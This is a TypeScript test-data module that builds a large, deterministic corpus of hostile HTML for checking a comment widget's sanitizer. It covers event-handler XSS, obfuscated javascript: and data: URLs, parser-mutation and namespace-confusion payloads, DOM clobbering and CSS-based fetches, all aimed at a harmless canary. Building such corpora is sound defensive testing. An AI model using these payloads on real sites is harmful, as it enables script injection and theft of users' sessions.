/**
 * Hostile markup by grammar: tag × attribute × encoding × context × nesting. The classes follow the
 * public collections (OWASP's evasion sheet, PortSwigger's cheat sheet, html5sec, DOMPurify's own
 * tests); the strings are made here. The same list comes out every time.
 *
 * It is longer than 250 lines because it is mostly data.
 */

/** One piece of hostile markup and the class it belongs to. */
export interface Vector {
  readonly family: string;
  readonly html: string;
}

/** What every vector tries to run: a canary the page under test defines. */
const canary = 'fcRan()';

const words = (text: string): string[] => text.trim().split(/\s+/);

const allowed = words('b em u i strike pre span code img a strong ul ol li br blockquote spoiler');

const otherTags = words(
  `abbr acronym address applet area article aside audio base basefont bdi bdo bgsound big blink body
   button canvas caption center cite col colgroup command content data datalist dd del details dfn
   dialog dir div dl dt element embed fencedframe fieldset figcaption figure font footer form frame
   frameset h1 h6 head header hgroup hr html iframe image input ins isindex kbd keygen label legend
   link listing main map mark marquee math menu menuitem meta meter model multicol nav nextid nobr
   noembed noframes noscript object optgroup option output p param permission picture plaintext
   portal progress q rb rp rt rtc ruby s samp script search section select selectedcontent shadow
   slot small source spacer style sub summary sup svg table tbody td template textarea tfoot th thead
   time title tr track tt var video wbr x-widget xmp`,
);

const events = words(
  `onload onerror onclick onfocus onfocusin onblur onmouseover onmouseenter onpointerover onwheel
   ontoggle onbeforetoggle onanimationstart onanimationend ontransitionend ontransitionrun onstart
   onfinish onbounce onscroll onscrollend onscrollsnapchange onbegin onend onrepeat oncopy oncut
   onpaste onkeydown oninput onchange onsubmit onreset oninvalid onselect onsearch ondragstart ondrop
   oncontextmenu onauxclick onplay oncanplay onloadstart onloadeddata ontimeupdate onmessage
   onhashchange onpageshow onpopstate onresize onunload onbeforeunload onafterprint
   oncontentvisibilityautostatechange onsecuritypolicyviolation onformdata onslotchange ongotpointercapture
   onwebkitanimationstart onbeforematch oncommand onvalidationstatuschange`,
);

/** Ways to write `javascript:`, and other schemes nobody asked for. */
const schemes = [
  `javascript:${canary}`,
  `JaVaScRiPt:${canary}`,
  ` javascript:${canary}`,
  `\tjavascript:${canary}`,
  `\njava\nscript\n:${canary}`,
  `java\tscript:${canary}`,
  `java&Tab;script&colon;${canary}`,
  `java&NewLine;script:${canary}`,
  `&#106;avascript:${canary}`,
  `&#x6A;&#x61;&#x76;&#x61;script:${canary}`,
  `&#0000106avascript:${canary}`,
  `&#1;javascript:${canary}`,
  `&#14; javascript:${canary}`,
  `&nbsp;javascript:${canary}`,
  `&ZeroWidthSpace;javascript:${canary}`,
  `\u2028javascript:${canary}`,
  `\u202ejavascript:${canary}`,
  `java\u00adscript:${canary}`,
  `javascript&#58;${canary}`,
  `javascript:/*--></title></style></textarea></script>*/${canary}`,
  `javascript://%0a${canary}`,
  `javascript:'<b>${canary}'`,
  `vbscript:${canary}`,
  `livescript:${canary}`,
  `data:text/html,<script>parent.${canary}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wYXJlbnQuZmNSYW4oKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${canary}"/>`,
  `data:application/xhtml+xml,<x/>`,
  `blob:https://example.com/1`,
  `filesystem:https://example.com/1`,
  `view-source:javascript:${canary}`,
  `feed:javascript:${canary}`,
  `jar:javascript:${canary}!/`,
  `about:blank`,
  `ftp://example.com/`,
  `intent://x#Intent;end`,
  `x-widget:${canary}`,
];

/** Places a URL is followed or fetched from; `URL` is replaced. */
const sinks = [
  `<a href="URL">x</a>`,
  `<a xlink:href="URL">x</a>`,
  `<a href='URL' target=_self ping="URL">x</a>`,
  `<img src="URL">`,
  `<img srcset="URL 1x" src="URL">`,
  `<img src=x lowsrc="URL" dynsrc="URL" longdesc="URL" usemap="#m">`,
  `<image src="URL">`,
  `<input type=image src="URL">`,
  `<iframe src="URL"></iframe>`,
  `<frameset><frame src="URL"></frameset>`,
  `<object data="URL"></object>`,
  `<embed src="URL">`,
  `<applet code="URL" archive="URL"></applet>`,
  `<form action="URL"><button>x</button></form>`,
  `<form><button formaction="URL">x</button></form>`,
  `<isindex action="URL" type=image>`,
  `<svg><a xlink:href="URL"><text y=9>x</text></a></svg>`,
  `<svg><use href="URL"/></svg>`,
  `<svg><image href="URL"/></svg>`,
  `<svg><script href="URL"/></svg>`,
  `<svg><a><animate attributeName=href values="URL"/><text y=9>x</text></a></svg>`,
  `<svg><set attributeName=href to="URL"/></svg>`,
  `<math href="URL">x</math>`,
  `<math><mtext><a href="URL">x</a></mtext></math>`,
  `<base href="URL">`,
  `<link rel=stylesheet href="URL">`,
  `<link rel=preload as=script href="URL">`,
  `<meta http-equiv=refresh content="0;url=URL">`,
  `<body background="URL">`,
  `<table background="URL"><td background="URL">x</td></table>`,
  `<video src="URL" poster="URL" autoplay></video>`,
  `<audio src="URL" autoplay></audio>`,
  `<video><source src="URL"><track src="URL" default></video>`,
  `<picture><source srcset="URL"><img src="URL"></picture>`,
  `<script src="URL"></script>`,
  `<bgsound src="URL">`,
  `<blockquote cite="URL">x</blockquote>`,
  `<map name=m><area href="URL" shape=default></map>`,
  `<portal src="URL"></portal>`,
  `<span style="background:url('URL')">x</span>`,
  `<template patchsrc="URL"></template>`,
];

/** What is put into a context; each runs by itself where it is not stopped. */
const cores = [
  `<img src=x onerror=${canary}>`,
  `<svg onload=${canary}></svg>`,
  `<script>${canary}</script>`,
  `<iframe onload=${canary}></iframe>`,
  `<body onload=${canary}>`,
  `<input autofocus onfocus=${canary}>`,
  `<details open ontoggle=${canary}>x</details>`,
  `<video><source onerror=${canary}></video>`,
  `<marquee onstart=${canary}>x</marquee>`,
  `<style onload=${canary}></style>`,
  `<object data=x onerror=${canary}></object>`,
  `<a href=javascript:${canary}>x</a>`,
  `<b onclick=${canary} style=position:fixed;inset:0>x</b>`,
  `<x-widget onfocus=${canary} tabindex=0 autofocus>x</x-widget>`,
];

/** Where a core is put; `CORE` is replaced. */
const contexts = [
  `<b>CORE</b>`,
  `<a href="https://a.example">CORE</a>`,
  `<ul><li>CORE<li>CORE</ul>`,
  `<pre><code>CORE</code></pre>`,
  `<spoiler>CORE</spoiler>`,
  `<blockquote>CORE</blockquote>`,
  `<table><tr><td>CORE</td></tr></table>`,
  `<table>CORE</table>`,
  `<select><option>CORE</select>`,
  `<select><template>CORE</template></select>`,
  `<svg>CORE</svg>`,
  `<svg><foreignObject>CORE</foreignObject></svg>`,
  `<svg><desc>CORE</desc></svg>`,
  `<svg><title>CORE</title></svg>`,
  `<svg><style>CORE</style></svg>`,
  `<svg></p>CORE`,
  `<math>CORE</math>`,
  `<math><mi>CORE</mi></math>`,
  `<math><annotation-xml encoding="text/html">CORE</annotation-xml></math>`,
  `<math><mtext><mglyph>CORE</mglyph></mtext></math>`,
  `<noscript>CORE</noscript>`,
  `<noscript><p title="</noscript>CORE">`,
  `<style><b title="</style>CORE">`,
  `<textarea><b title="</textarea>CORE">`,
  `<title><b title="</title>CORE">`,
  `<xmp><b title="</xmp>CORE">`,
  `<noembed><b title="</noembed>CORE">`,
  `<iframe><b title="</iframe>CORE">`,
  `<script><b title="</script>CORE">`,
  `<plaintext>CORE`,
  `<template>CORE</template>`,
  `<template shadowrootmode=open>CORE</template>`,
  `<div><template shadowrootmode=open>CORE</template></div>`,
  `<span><template shadowrootmode=open>CORE</template></span>`,
  `<blockquote><template shadowrootmode=closed>CORE</template></blockquote>`,
  `<!--><!-->CORE-->`,
  `<!--CORE-->`,
  `<!-- --!>CORE`,
  `<![CDATA[CORE]]>`,
  `<svg><![CDATA[</svg>CORE]]>`,
  `<?xml version="1.0"?>CORE`,
  `<!DOCTYPE x [<!ENTITY y "CORE">]>&y;`,
  `<b title="><">CORE`,
  `<b title='x' title="y'>CORE`,
  `</b></body></html>CORE`,
  `<frameset>CORE</frameset>`,
  `<form><form>CORE</form></form>`,
  `<button>CORE</button>`,
  `<object>CORE</object>`,
  `<x-widget>CORE</x-widget>`,
  `<p><dialog open>CORE</dialog>`,
  `&lt;b&gt;CORE`,
];

/** Attributes that no user's element may carry. */
const attributes = [
  `id=x`,
  `name=body`,
  `style="position:fixed;inset:0;z-index:9999"`,
  `style="background:url(ORIGIN/canary/other/style)"`,
  `style="animation:x 1s" onanimationstart=${canary}`,
  `class="fc-button fc-menu"`,
  `class="hljs fc-button"`,
  `data-comment-id=1`,
  `data-fc=spoiler`,
  `data-fc-src="ORIGIN/canary/other/src"`,
  `aria-label="Delete"`,
  `aria-hidden=true`,
  `role=alert`,
  `tabindex=0 autofocus onfocus=${canary}`,
  `accesskey=x onclick=${canary}`,
  `slot=header`,
  `part=comment-body`,
  `exportparts=x`,
  `is=x-widget`,
  `srcset="ORIGIN/canary/other/srcset 1x"`,
  `sizes=100vw`,
  `form=f formaction="javascript:${canary}"`,
  `contenteditable`,
  `draggable=true ondragstart=${canary}`,
  `hidden`,
  `inert`,
  `popover onbeforetoggle=${canary}`,
  `popovertarget=x command=show-modal commandfor=x`,
  `itemscope itemprop=x itemid=x`,
  `nonce=x`,
  `enterkeyhint=x inputmode=none`,
  `translate=no spellcheck`,
  `background="ORIGIN/canary/other/background"`,
  `xmlns="http://www.w3.org/2000/svg"`,
  `xmlns:xlink=x xlink:href="javascript:${canary}"`,
  `xml:base="javascript:${canary}//"`,
  `http-equiv=refresh content="0;url=javascript:${canary}"`,
  `srcdoc="<script>parent.${canary}</script>"`,
  `ping="ORIGIN/canary/other/ping"`,
  `attributionsrc="ORIGIN/canary/other/attribution"`,
  `lowsrc="ORIGIN/canary/other/lowsrc"`,
  `poster="ORIGIN/canary/other/poster"`,
  `usemap=#m`,
  `constructor=x __proto__=y`,
  `width=99999999 height=-1`,
  `start=99999999999`,
  `lang="x&quot; onload=${canary}"`,
  `dir="ltr&quot; onload=${canary}"`,
  `title="&lt;img src=x onerror=${canary}&gt;"`,
  `title="--&gt;&lt;img src=x onerror=${canary}&gt;"`,
  `title="&lt;/style&gt;&lt;img src=x onerror=${canary}&gt;"`,
  `alt="\`&quot;'&gt;&lt;svg onload=${canary}&gt;"`,
];

/** Between a tag's name and its attributes. */
const gaps = [
  ' ',
  '\t',
  '\n',
  '\r',
  '\f',
  '/',
  '//',
  ' / ',
  '\x0b',
  '\0',
  '&nbsp;',
  '\u00a0',
  '\u3000',
  ' x=',
  '"',
  "'",
];

/** Round an attribute's value. */
const quotings: ((value: string) => string)[] = [
  (value) => `"${value}"`,
  (value) => `'${value}'`,
  (value) => value,
  (value) => `\`${value}\``,
  (value) => `"${value}`,
  (value) =>
    value
      .split('')
      .map((c) => `&#${String(c.codePointAt(0))};`)
      .join(''),
  (value) =>
    value
      .split('')
      .map((c) => `&#x${(c.codePointAt(0) ?? 0).toString(16)};`)
      .join(''),
  (value) => `"&#34;${value}&#34;"`,
];

/** Namespace confusion and parser mutation, each in a shape of its own; `X` is what is hidden. */
const mutations = [
  `<form><math><mtext></form><form><mglyph><style></math>X`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;X">`,
  `<math><mtext><table><mglyph><svg><mtext><textarea><path id="</textarea>X">`,
  `<math><mtext><table><mglyph><style><math><table id="</table>X">`,
  `<svg></p><style><a id="</style>X">`,
  `<svg><p><style><g title="</style>X">`,
  `<svg></br><style><a title="</style>X">`,
  `<svg><desc><noembed><a title="</noembed>X">`,
  `<svg><annotation-xml><foreignobject><style><!--</style><p id="--!&gt;X">`,
  `<svg><foreignObject><math><mi><style><!--</style><a title="--&gt;X">`,
  `<svg><title><style></title></style>X`,
  `<svg><style>&lt;/style&gt;X</style></svg>`,
  `<math><style>&lt;/style&gt;X</style></math>`,
  `<math><annotation-xml encoding="text/html"><style><a title="</style>X">`,
  `<math><mi//xlink:href="data:x,<script>X</script>">`,
  `<noscript><style></noscript>X</style>`,
  `<noscript><img title="</noscript>X"></noscript>`,
  `<select><noembed></select><script x='a@b'a>y='a@b'//a@b%0a\\u0061lert(1)</script>X`,
  `<select><style></select>X</style>`,
  `<select><keygen>X`,
  `<option><style></option></select><b>X</style></option>`,
  `<template><style></template>X</style></template>`,
  `<template><b title="</template>X">`,
  `<template><s><template><s>X</s></template></s></template>`,
  `<table><caption><svg><style></caption>X`,
  `<table><tr><td><svg></td><style></svg>X`,
  `<table><td><table><td>X`,
  `<table><a href=x><td>X`,
  `<a><table><a>X</a></table></a>`,
  `<a><svg><a>X`,
  `<b><p><b><p><b><p>X`,
  `<b><table><b>X</b></table>`,
  `<p><b><p><i><p>X</i></b>`,
  `<p>a<table><p>X`,
  `<li><table><li>X<li>`,
  `<ul><marquee><li><li>X`,
  `<textarea></textarea><textarea><b title="</textarea>X">`,
  `<title></title><title>X</title>`,
  `<xmp></xmp><xmp>X</xmp>X`,
  `<style></style><style>@import 'ORIGIN/canary/other/import';</style>X`,
  `<style>*{background:url(ORIGIN/canary/other/css)}</style>X`,
  `<body/s/onload=x><template/><body>X`,
  `<html manifest=x><head><body>X</body></html>`,
  `<br><br/></br></br>X`,
  `</p></p>X</br>`,
  `<isindex prompt="X">`,
  `<image/src=x>X`,
  `<plaintext/onload=x>X`,
  `<listing>\n\nX</listing>`,
  `<pre>\n\n\nX</pre>`,
  `<pre><textarea>\n\nX</textarea></pre>`,
  `<![if<iframe/onload=vbs::>]>X`,
  `<!--[if IE]>X<![endif]-->`,
  `<!-->X<!-- -->`,
  `<!--->X<!-- -->`,
  `<!---!>X`,
  `<%X%>`,
  `<?X?>`,
  `<?php echo '?>X'`,
  `<//X`,
  `</ X>`,
  `<<X`,
  `<b <b X`,
  `<scr<script>ipt>X</scr</script>ipt>`,
  `<scrip<b></b>t>X`,
  `<IMG """>X`,
  `<a "=X>`,
  `<a foo="><script>" bar=">X`,
  `\0<\0b\0>X`,
  `+ADw-script+AD4-X+ADw-/script+AD4-`,
  `\uff1cscript\uff1eX`,
  `&lt;X&gt;`,
  `&amp;lt;X&amp;gt;`,
  `\\u003cX\\u003e`,
  `%3CX%3E`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">X</x:script>`,
  `<html:b xmlns:html="http://www.w3.org/1999/xhtml">X</html:b>`,
  `<script type=speculationrules>{"prefetch":[{"urls":["ORIGIN/canary/other/spec"]}]}</script>X`,
  `<script type=importmap>{"imports":{"lit":"ORIGIN/canary/other/map"}}</script>X`,
  `<link rel=modulepreload href="ORIGIN/canary/other/preload">X`,
  `<meta name=referrer content=unsafe-url>X`,
  `<meta http-equiv=content-security-policy content="default-src *">X`,
  `<dialog open><form method=dialog>X</form></dialog>`,
  `<div popover=manual id=p>X</div><button popovertarget=p>x</button>`,
  `<details open><summary>x</summary>X</details>`,
  `<slot name=header>X</slot>`,
  `<selectedcontent>X</selectedcontent>`,
  `<input type=hidden value="X">`,
  `<label for=x>X</label>`,
];

/** Names that would shadow members of `document`, of a form or of our own nodes. */
const clobbered = words(
  `attributes nodeName childNodes parentNode firstChild nextSibling textContent innerHTML ownerDocument
   removeChild removeAttribute getAttribute setAttribute insertBefore namespaceURI nodeType tagName
   children className classList dataset content body head forms cookie location getElementById
   querySelector createElement defaultView documentElement implementation currentScript fcConfigs
   FastCommentsUI __proto__ constructor toString hasOwnProperty trustedTypes customElements self top
   parent name length item`,
);

const clobberers = [
  `<form id="NAME"><input name="NAME"></form>`,
  `<form name="NAME" id="NAME"><img name="NAME"><output id="NAME">x</output></form>`,
  `<a id="NAME"></a><a id="NAME" name="NAME" href="javascript:fcRan()">x</a>`,
  `<img id="NAME" name="NAME" src="ORIGIN/canary/image/clobber">`,
  `<iframe name="NAME" srcdoc="<b id=x>"></iframe><object id="NAME" name="NAME"></object>`,
];

const styles = [
  `position:fixed;inset:0`,
  `background:url(ORIGIN/canary/other/bg)`,
  `background:url('javascript:${canary}')`,
  `background-image:image-set('ORIGIN/canary/other/set' 1x)`,
  `list-style:url(ORIGIN/canary/other/list)`,
  `cursor:url(ORIGIN/canary/other/cursor),auto`,
  `content:url(ORIGIN/canary/other/content)`,
  `mask:url(ORIGIN/canary/other/mask#x)`,
  `filter:url(ORIGIN/canary/other/filter#x)`,
  `border-image:url(ORIGIN/canary/other/border) 1`,
  `offset-path:url(ORIGIN/canary/other/path)`,
  `width:expression(${canary})`,
  `behavior:url(x.htc)`,
  `-moz-binding:url(x.xml#y)`,
  `x:\\65xpression(${canary})`,
  `color:red;/*</style>*/`,
  `font-family:'</style><img src=x onerror=${canary}>'`,
  `--x:url(ORIGIN/canary/other/var);background:var(--x)`,
  `@import 'ORIGIN/canary/other/import'`,
  `animation-name:x;animation-duration:1s`,
  `z-index:2147483647;position:absolute;top:-99em`,
  `display:contents;all:unset`,
  `anchor-name:--x;view-transition-name:x`,
];

const styleCarriers = [
  `<span style="CSS">x</span>`,
  `<b style='CSS' class="token">x</b>`,
  `<style>*{CSS}</style>x`,
  `<style>CSS</style>x`,
  `<svg><style>*{CSS}</style></svg>x`,
  `<link rel=stylesheet href="data:text/css,*{CSS}">x`,
];

const nests = words(
  'b a span blockquote ul li pre spoiler div table x-y marquee button svg math form',
);

/** Every vector, none twice. `origin` is where fetches can be seen (`/canary/…`). */
export function hostileCorpus(origin: string): Vector[] {
  const found = new Map<string, Vector>();
  const add = (family: string, html: string) => {
    const complete = html.replaceAll('ORIGIN', origin);
    if (!found.has(complete)) found.set(complete, { family, html: complete });
  };

  const tags = [...allowed, ...otherTags];
  tags.forEach((tag, index) => {
    for (let step = 0; step < 5; step++) {
      const event = events[(index * 5 + step * 13) % events.length] ?? 'onload';
      add('handler', `<${tag} ${event}=${canary}>x</${tag}>`);
    }
    add('handler', `<${tag} src=x href=x data=x onerror=${canary} onload=${canary}>`);
  });
  events.forEach((event, index) => {
    for (let step = 0; step < 4; step++) {
      const tag = allowed[(index + step * 5) % allowed.length] ?? 'b';
      add('handler', `<${tag} ${step % 2 ? event.toUpperCase() : event}="${canary}">x`);
    }
  });
  for (const sink of sinks) {
    for (const scheme of schemes) {
      const quote = sink.includes(`'URL'`) ? /'/g : /"/g;
      const url = scheme.replace(quote, (mark) => `&#${String(mark.charCodeAt(0))};`);
      add('url', sink.replaceAll('URL', url));
    }
    add(
      'url',
      sink.replaceAll(
        'URL',
        sink.includes('<img src') ? 'ORIGIN/canary/image/url' : 'ORIGIN/canary/other/url',
      ),
    );
  }
  for (const context of contexts) {
    for (const core of cores) add('context', context.replaceAll('CORE', core));
  }
  for (const tag of allowed) {
    for (const attribute of attributes) {
      add('attribute', `<${tag} ${attribute}>x</${tag}>`);
    }
  }
  for (const gap of gaps) {
    for (const quote of quotings) {
      add('syntax', `<img${gap}src=x${gap}onerror=${quote(canary)}>`);
      add('syntax', `<b${gap}onclick${gap === '\n' ? '\n=\n' : '='}${quote(canary)}>x</b>`);
      add('syntax', `<a${gap}href=${quote(`javascript:${canary}`)}>x</a>`);
      add('syntax', `<svg${gap}onload=${quote(canary)}>`);
    }
  }
  for (const mutation of mutations) {
    for (const core of [cores[0] ?? '', cores[1] ?? '', cores[2] ?? '']) {
      const vector = mutation.replaceAll('X', core);
      add('mutation', vector);
      add('mutation', `<div>${vector}</div>`);
      add('mutation', `<ul><li>${vector}<li>${vector}</ul>`);
    }
  }
  for (const name of clobbered) {
    for (const clobberer of clobberers) add('clobbering', clobberer.replaceAll('NAME', name));
  }
  for (const style of styles) {
    for (const carrier of styleCarriers) add('style', carrier.replaceAll('CSS', style));
  }
  for (const tag of nests) {
    for (const depth of [2, 30, 200, 600]) {
      add('nesting', `${`<${tag}>`.repeat(depth)}${cores[0] ?? ''}${`</${tag}>`.repeat(depth)}`);
      add('nesting', `${`<${tag}><b>`.repeat(depth)}${cores[1] ?? ''}`);
    }
  }
  return [...found.values()];
}

/** A part of a list in random order that is the same for the same seed (mulberry32). */
export function sample<T>(list: readonly T[], count: number, seed: number): T[] {
  let state = seed;
  const random = () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4294967296;
  };
  const rest = [...list];
  const picked: T[] = [];
  while (picked.length < count && rest.length > 0) {
    picked.push(...rest.splice(Math.floor(random() * rest.length), 1));
  }
  return picked;
}
